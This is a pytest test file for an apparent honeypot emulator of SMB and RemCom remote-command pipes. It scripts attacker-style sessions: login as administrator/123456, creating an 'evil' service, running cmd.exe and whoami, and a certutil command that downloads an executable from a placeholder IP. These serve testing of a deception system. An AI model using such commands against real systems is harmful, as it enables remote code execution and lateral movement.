"""RemCom's terminal: a program's own connection, and those of its pipes, which meet in the memory of addresses."""

from __future__ import annotations

import struct

import pytest

from eudaemon.events.catalogue import CommandEntered
from eudaemon.protocols._base import HalfClosed
from eudaemon.protocols.smb import Smb, remcom, smb2
from eudaemon.protocols.smb.between import WAITING_BYTES_MAX, Between
from eudaemon.protocols.smb.connection import LOOK_AGAIN_S
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from eudaemon.world.shell.limits import LINE_BYTES_MAX
from protocols import smb_client as client
from protocols.smb_client import Client2, unframed
from protocols.test__dcerpc import SVCCTL, creation, pointed

HOST = Host.from_seed(Seed(b"test"))
PENDING, BROKEN, NOT_FOUND, CANCELLED, INSUFFICIENT = 0x103, 0xC000_014B, 0xC000_0034, 0xC000_0120, 0xC000_009A


def message(command: str, machine: str = "AbCd", process: int = 77) -> bytes:
    return struct.pack("<4096s260sII260sI", command.encode(), b"", 0x20, process, machine.encode(), 0)


class Client(Client2):
    """Somebody let in at IPC$."""

    def __init__(self, memory: Memory) -> None:
        super().__init__(Table(Smb(visit(host=HOST, port=445, memory=memory, purse=Purse(32 << 20)))).open())
        assert self.enter("administrator", "123456") == 0
        assert self.connect("\\\\x\\IPC$") == 0

    def serve(self) -> None:
        """Make a service, so that pipes of one's own are there."""
        _, pipe = self.create("svcctl")
        self.call(pipe, client.bind(SVCCTL, 2))
        manager = self.call(pipe, client.request(15, pointed("x") + bytes(4) + struct.pack("<I", 0xF003F)))[1][24:44]
        self.call(pipe, client.request(12, creation(manager, "evil", "%systemroot%\\evil.exe")))

    def begin_reading(self, pipe: bytes, count: int = 1024) -> tuple[int, bytes]:
        """Ask for what a pipe has; return the first answer's status and its message, which may be one meanwhile."""
        body = struct.pack("<HBBIQ16sIIIHH", 49, 80, 0, count, 0, pipe, 0, 0, 0, 0, 0) + b"\0"
        said = self.table.say(client.smb2(8, body, session=self.session, tree=self.tree, number=9))
        (answer,) = unframed(said)
        return client.head2(answer)[1], answer

    def later(self, seconds: float = LOOK_AGAIN_S) -> list[tuple[int, bytes]]:
        """Let time pass; return status and data of what was answered then."""
        before = len(self.table.sent)
        self.table.wait(seconds)
        return [(client.head2(answer)[1], answer[80:]) for answer in unframed(self.table.sent[before:])]


def begun(command: str = "cmd.exe") -> tuple[Memory, Client, bytes]:
    memory = Memory()
    own = Client(memory)
    own.serve()
    status, pipe = own.create("RemCom_communicaton")
    assert status == 0
    assert own.write(pipe, message(command)) == 0
    return memory, own, pipe


def test_four_connections_are_one_terminal() -> None:
    memory, own, pipe = begun()
    typing, reading, complaints = Client(memory), Client(memory), Client(memory)
    (_, keys), (_, screen), (_, errors) = (
        one.create(f"RemCom_std{way}AbCd77") for one, way in ((typing, "in"), (reading, "out"), (complaints, "err"))
    )
    assert own.begin_reading(pipe, 8)[0] == PENDING
    assert complaints.begin_reading(errors)[0] == PENDING
    status, answer = reading.begin_reading(screen)
    assert (status, answer[80:][:9]) == (0, b"Microsoft")
    assert reading.read(screen, 1024) == (0, b"C:\\Windows\\System32>")
    status, meanwhile = reading.begin_reading(screen)
    flags, number = struct.unpack_from("<I", meanwhile, 16)[0], meanwhile[32:40]
    assert (status, flags & 2, number) == (PENDING, 2, struct.pack("<Q", 1))
    assert reading.later(1.0) == []
    assert typing.write(keys, b"who") == 0
    assert own.later() == reading.later() == []
    assert typing.write(keys, b"ami\r\n") == 0
    assert own.later() == []
    assert reading.later() == [(0, b"whoami\r\n")]  # what is typed is repeated, and by itself
    assert reading.read(screen, 1024) == (0, b"nt authority\\system\r\n")
    assert reading.read(screen, 1) == (0, b"\r")
    assert reading.read(screen, 9) == (0, b"\n")
    assert reading.read(screen, 1024) == (0, b"C:\\Windows\\System32>")
    typing.write(keys, b"exit\r\n")
    assert own.later() == []  # "exit" itself is still to be read
    assert reading.read(screen, 1024) == (0, b"exit\r\n")
    ((status, ended),) = own.later()
    assert (status, ended) == (0, bytes(8))
    assert reading.begin_reading(screen)[0] == BROKEN
    assert [status for status, _ in complaints.later()] == [BROKEN]
    assert typing.write(keys, b"dir\r\n") == BROKEN
    assert [fact.line for fact in own.table.facts if isinstance(fact, CommandEntered)][1:] == [
        "cmd.exe",
        "whoami",
        "exit",
    ]
    for one in (own, typing, reading, complaints):
        one.table.end()
        assert not one.table.fault
        assert one.table.room.visit.purse.bytes_taken == 0


def test_the_pipes_are_there_while_the_program_is_and_for_its_own_address() -> None:
    memory, own, _ = begun()
    assert Client(memory).create("RemCom_stdoutXyZw77")[0] == NOT_FOUND
    assert Client(Memory()).create("RemCom_stdoutAbCd77")[0] == NOT_FOUND
    assert Client(memory).create("RemCom_stdoutAbCd77")[0] == 0
    own.table.end()
    assert Client(memory).create("RemCom_stdoutAbCd77")[0] == NOT_FOUND


def test_a_command_that_downloads_ends_when_it_has() -> None:
    _, own, pipe = begun("certutil -urlcache -f http://198.51.100.7/a a.exe")
    assert own.begin_reading(pipe, 8)[0] == PENDING
    assert own.later(5.0) == []
    own.table.answer("ok", b"MZ")
    own.table.wait(3.0)  # nobody reads what it has printed
    assert own.table.sent[-8:] == bytes(8)


def test_who_types_keeps_the_others_from_being_idle() -> None:
    memory, own, _ = begun()
    typing, reading = Client(memory), Client(memory)
    _, keys = typing.create("RemCom_stdinAbCd77")
    _, screen = reading.create("RemCom_stdoutAbCd77")
    while reading.begin_reading(screen)[0] != PENDING:
        pass
    for one in (own, reading):
        heard = one.table.still_there
        one.table.wait(5.0)
        assert one.table.still_there == heard
    typing.table.at_s = own.table.at_s
    typing.write(keys, b"x")
    for one in (own, reading):
        heard = one.table.still_there
        one.table.wait(LOOK_AGAIN_S)
        assert one.table.still_there == heard + 1


def test_a_read_that_is_cancelled_is_answered() -> None:
    memory, _, _ = begun()
    reading = Client(memory)
    _, screen = reading.create("RemCom_stderrAbCd77")
    assert reading.begin_reading(screen)[0] == PENDING
    (said,) = unframed(
        reading.table.say(client.smb2(0x0C, struct.pack("<HH", 4, 0), session=reading.session, number=9))
    )
    assert client.head2(said)[1] == CANCELLED
    assert reading.later(1.0) == []


def test_so_many_reads_wait() -> None:
    memory, _, _ = begun()
    reading = Client(memory)
    _, screen = reading.create("RemCom_stderrAbCd77")
    for _ in range(smb2.PARKED_MAX):
        assert reading.begin_reading(screen)[0] == PENDING
    assert reading.begin_reading(screen)[0] == INSUFFICIENT


def test_limits_of_a_terminal() -> None:
    for past in (0, 1):
        memory, own, _ = begun()
        typing = Client(memory)
        _, keys = typing.create("RemCom_stdinAbCd77")
        left = LINE_BYTES_MAX + past
        while left:
            piece = min(left, WAITING_BYTES_MAX // 2)
            assert typing.write(keys, b"x" * piece) == 0
            own.table.wait(LOOK_AGAIN_S)
            left -= piece
        assert bool(own.table.fault) is bool(past)
    between = Between(visit(), "x")
    between.open(1.0)
    assert between.put("in", bytes(WAITING_BYTES_MAX - 2))
    assert not between.put("in", b"")
    assert between.take("in", WAITING_BYTES_MAX) == bytes(WAITING_BYTES_MAX - 2)
    memory, own, _ = begun()
    for number in range(1, remcom.TERMINALS_MAX + 1):
        _, pipe = own.create("RemCom_communicaton")
        assert own.write(pipe, message("cmd", process=number)) == (0 if number < remcom.TERMINALS_MAX else INSUFFICIENT)


@pytest.mark.parametrize("past", [0, 1])
def test_who_does_not_read_ends_the_session(past: int, monkeypatch: pytest.MonkeyPatch) -> None:
    memory, _, _ = begun("ver")
    printed = b"".join(Between(visit(memory=memory), "abcd77").take_all("out"))
    monkeypatch.setattr(remcom, "PRINTED_BYTES_MAX", len(printed) - past)
    again = Client(Memory())
    again.serve()
    _, pipe = again.create("RemCom_communicaton")
    body = struct.pack("<HHIQ16sIIHHI", 49, 112, remcom.MESSAGE_BYTES, 0, pipe, 0, 0, 0, 0, 0) + message("ver")
    again.table.say(client.smb2(9, body, session=again.session, tree=again.tree))
    assert bool(again.table.fault) is bool(past)


def test_what_has_left_does_not_wait_for_a_terminal() -> None:
    _, own, _ = begun()
    own.table.tell(HalfClosed(own.table.at_s))
    assert own.table.over


def test_what_one_connection_brings_the_terminal_finds_and_the_other_way_round() -> None:
    memory, own, _ = begun()
    typing, reading, bringing = Client(memory), Client(memory), Client(memory)
    _, keys = typing.create("RemCom_stdinAbCd77")
    _, screen = reading.create("RemCom_stdoutAbCd77")
    assert bringing.connect("\\\\x\\C$") == 0
    _, file = bringing.create("brought.txt")
    bringing.write(file, b"by another")
    bringing.close(file)
    typing.write(keys, b"type C:\\brought.txt\r\necho two> C:\\made.txt\r\n")
    own.later()
    said = b""
    while b"by another" not in said:
        status, data = reading.read(screen, 4096)
        assert status == 0
        said += data
    status, file = bringing.create("made.txt", access=0x0012_0089, disposition=1)
    assert status == 0
    assert bringing.read(file, 9) == (0, b"two\r\n")
